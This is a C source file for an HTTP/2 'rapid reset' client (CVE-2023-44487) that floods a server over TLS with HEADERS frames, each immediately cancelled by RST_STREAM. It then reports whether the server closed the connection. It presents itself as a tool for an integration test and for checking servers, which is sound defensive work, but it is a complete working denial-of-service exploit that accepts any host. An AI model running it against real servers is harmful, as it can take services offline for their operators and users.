/*
 * An HTTP/2 "rapid reset" client (CVE-2023-44487), our own, for the app's integration test and
 * for checking a server by hand: over TLS with ALPN h2 it sends the preface, then HEADERS for a
 * GET followed at once by RST_STREAM (CANCEL) on the same stream, again and again on new
 * streams, without waiting for any answer. The stream never counts against the server's
 * concurrency limit, yet each HEADERS starts a request.
 *
 *   ar_h2_rapid_reset HOST PORT PATH PAIRS
 *
 * Prints one line: pairs sent, whether the server closed the connection (EOF, reset or
 * GOAWAY) and after how many pairs, responses (HEADERS frames) seen, and the time taken. Exits 0
 * whatever the server did (the caller judges), 1 when it cannot connect or negotiate h2.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 50   /* pairs per write */
#define ACKS_MAX 4 /* SETTINGS acknowledgements owed at once (the server sends one SETTINGS) */

typedef struct {
    SSL *ssl;
    int fd;
    int closed;         /* EOF, error or GOAWAY from the server */
    int stalled;        /* the server read nothing of ours for 30 s, and did not close */
    unsigned long resp; /* HEADERS frames received */
    unsigned long goaway;
    unsigned acks; /* SETTINGS frames to acknowledge in the next write */
    uint8_t in[65536 + 9];
    size_t inlen;
} conn_t;

static double now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

static void frame_head(uint8_t *p, size_t len, uint8_t type, uint8_t flags, uint32_t sid)
{
    p[0] = (uint8_t)(len >> 16), p[1] = (uint8_t)(len >> 8), p[2] = (uint8_t)len;
    p[3] = type, p[4] = flags;
    p[5] = (uint8_t)(sid >> 24) & 0x7f, p[6] = (uint8_t)(sid >> 16), p[7] = (uint8_t)(sid >> 8);
    p[8] = (uint8_t)sid;
}

static void drain(conn_t *c);

/*
 * Waits until the socket is ready for what OpenSSL asked, reading what arrives meanwhile: h2o
 * stops reading a connection whose answers to it are not read, so a client that only waits to
 * write waits on a server that waits on it. Under a loaded CI machine (store jobs slow, the
 * answers piling up) that wait passed the 5 s this allowed, and read as the server closing
 * the connection. -1 after 30 s without the socket becoming ready (a server that stopped
 * reading without closing: marked stalled, not closed) or once the server closed it.
 */
static int wait_io(conn_t *c, int err)
{
    double until = now_ms() + 30000;
    while (!c->closed && now_ms() < until) {
        struct pollfd p = {.fd = c->fd,
                           .events = POLLIN | (err == SSL_ERROR_WANT_WRITE ? POLLOUT : 0)};
        if (poll(&p, 1, 1000) <= 0)
            continue;
        if (err == SSL_ERROR_WANT_WRITE && (p.revents & POLLOUT))
            return 0;
        if (err == SSL_ERROR_WANT_READ)
            return 0;
        drain(c); /* POLLIN, or the peer's end (drain marks it closed) */
    }
    if (!c->closed)
        c->stalled = 1;
    return -1;
}

/* Consumes the frames received so far: counts HEADERS and GOAWAY, acknowledges SETTINGS. */
static void on_frames(conn_t *c)
{
    size_t off = 0;
    while (c->inlen - off >= 9) {
        const uint8_t *h = c->in + off;
        size_t len = ((size_t)h[0] << 16) | ((size_t)h[1] << 8) | h[2];
        if (c->inlen - off < 9 + len)
            break;
        if (h[3] == 0x1)
            c->resp++;
        else if (h[3] == 0x7)
            c->goaway++, c->closed = 1;
        else if (h[3] == 0x4 && !(h[4] & 1) && c->acks < ACKS_MAX)
            /* Sent with the next batch, not here: this runs while a write may be pending
             * (WANT_WRITE), and an SSL_write of another buffer then fails the connection
             * (bad write retry), which read as the server closing it under load. */
            c->acks++;
        off += 9 + len;
    }
    memmove(c->in, c->in + off, c->inlen - off);
    c->inlen -= off;
}

/* Reads whatever has arrived without waiting. */
static void drain(conn_t *c)
{
    for (;;) {
        if (c->inlen == sizeof(c->in)) { /* a frame larger than we keep: drop it */
            c->inlen = 0;
        }
        int n = SSL_read(c->ssl, c->in + c->inlen, (int)(sizeof(c->in) - c->inlen));
        if (n > 0) {
            c->inlen += (size_t)n;
            on_frames(c);
            continue;
        }
        int e = SSL_get_error(c->ssl, n);
        if (e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE)
            c->closed = 1;
        return;
    }
}

static int write_all(conn_t *c, const uint8_t *p, size_t len)
{
    while (len > 0 && !c->closed) {
        int n = SSL_write(c->ssl, p, (int)len);
        if (n > 0) {
            p += n, len -= (size_t)n;
            continue;
        }
        int e = SSL_get_error(c->ssl, n);
        if (e == SSL_ERROR_WANT_READ)
            drain(c);
        if (e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE) {
            c->closed = 1;
            return -1;
        }
        if (wait_io(c, e) < 0)
            return -1; /* closed, or stalled */
        drain(c);
    }
    return c->closed ? -1 : 0;
}

static int connect_tls(conn_t *c, const char *host, int port)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    if (inet_pton(AF_INET, host, &sa.sin_addr) != 1)
        return -1;
    c->fd = socket(AF_INET, SOCK_STREAM, 0);
    if (c->fd < 0 || connect(c->fd, (struct sockaddr *)&sa, sizeof(sa)) != 0)
        return -1;
    int one = 1;
    setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    static const uint8_t alpn[] = {2, 'h', '2'};
    if (ctx == NULL || SSL_CTX_set_alpn_protos(ctx, alpn, sizeof(alpn)) != 0)
        return -1;
    c->ssl = SSL_new(ctx);
    SSL_CTX_free(ctx);
    if (c->ssl == NULL || SSL_set_fd(c->ssl, c->fd) != 1 || SSL_connect(c->ssl) != 1)
        return -1;
    const unsigned char *got;
    unsigned gotlen;
    SSL_get0_alpn_selected(c->ssl, &got, &gotlen);
    if (gotlen != 2 || memcmp(got, "h2", 2) != 0)
        return -1;
    /* Non-blocking from here: the client never waits for answers. */
    int fl = fcntl(c->fd, F_GETFL);
    return fl < 0 || fcntl(c->fd, F_SETFL, fl | O_NONBLOCK) < 0 ? -1 : 0;
}

/* HEADERS (END_STREAM | END_HEADERS) for GET path, HPACK without Huffman or indexing. */
static size_t headers_frame(uint8_t *p, uint32_t sid, const char *path, const char *authority)
{
    uint8_t *b = p + 9;
    size_t n = 0, pl = strlen(path), al = strlen(authority);
    b[n++] = 0x82; /* :method GET */
    b[n++] = 0x87; /* :scheme https */
    b[n++] = 0x04; /* :path, literal without indexing, name from the static table */
    b[n++] = (uint8_t)pl;
    memcpy(b + n, path, pl), n += pl;
    b[n++] = 0x01; /* :authority */
    b[n++] = (uint8_t)al;
    memcpy(b + n, authority, al), n += al;
    frame_head(p, n, 0x1, 0x5, sid);
    return 9 + n;
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: %s HOST PORT PATH PAIRS\n", argv[0]);
        return 2;
    }
    const char *host = argv[1], *path = argv[3];
    int port = atoi(argv[2]);
    unsigned long pairs = strtoul(argv[4], NULL, 10);
    if (strlen(path) > 100 || pairs == 0 || pairs > 1000000000ul) {
        fprintf(stderr, "bad path or count\n");
        return 2;
    }
    /* The server shutting the connection down while we write is the expected outcome: EPIPE,
     * not a signal that kills us before we report. */
    signal(SIGPIPE, SIG_IGN);
    char authority[80];
    snprintf(authority, sizeof(authority), "%s:%d", host, port);
    static conn_t c;
    if (connect_tls(&c, host, port) < 0) {
        fprintf(stderr, "rapid_reset: cannot connect with TLS and h2\n");
        ERR_print_errors_fp(stderr);
        return 1;
    }
    uint8_t buf[BATCH * (9 + 128 + 13) + 64 + ACKS_MAX * 9];
    size_t n = 0;
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    memcpy(buf, preface, sizeof(preface) - 1), n = sizeof(preface) - 1;
    frame_head(buf + n, 0, 0x4, 0, 0), n += 9; /* our SETTINGS: defaults */
    double t0 = now_ms();
    unsigned long sent = 0, closed_at = 0;
    uint32_t sid = 1;
    while (sent < pairs && !c.closed) {
        for (; c.acks > 0; c.acks--)
            frame_head(buf + n, 0, 0x4, 1, 0), n += 9;
        for (int i = 0; i < BATCH && sent + (unsigned long)i < pairs; i++) {
            n += headers_frame(buf + n, sid, path, authority);
            frame_head(buf + n, 4, 0x3, 0, sid), n += 9;
            buf[n++] = 0, buf[n++] = 0, buf[n++] = 0, buf[n++] = 0x8; /* CANCEL */
            sid += 2;
        }
        unsigned long batch = (sid - 1) / 2 - sent;
        if (write_all(&c, buf, n) < 0)
            break;
        sent += batch;
        n = 0;
        drain(&c);
    }
    if (c.closed)
        closed_at = sent;
    /* Give the server time to work through what it has read, and to answer or close (a busy
     * machine may take seconds), then count what came. */
    double until = now_ms() + 5000;
    while (!c.closed && now_ms() < until) {
        struct pollfd p = {.fd = c.fd, .events = POLLIN};
        if (poll(&p, 1, 100) > 0)
            drain(&c);
    }
    if (c.closed && closed_at == 0)
        closed_at = sent;
    printf("pairs_sent %lu closed_by_server %s closed_after %lu goaway %lu responses %lu ms %.0f "
           "stalled %s\n",
           sent, c.closed ? "yes" : "no", closed_at, c.goaway, c.resp, now_ms() - t0,
           c.stalled ? "yes" : "no");
    SSL_free(c.ssl);
    close(c.fd);
    return 0;
}
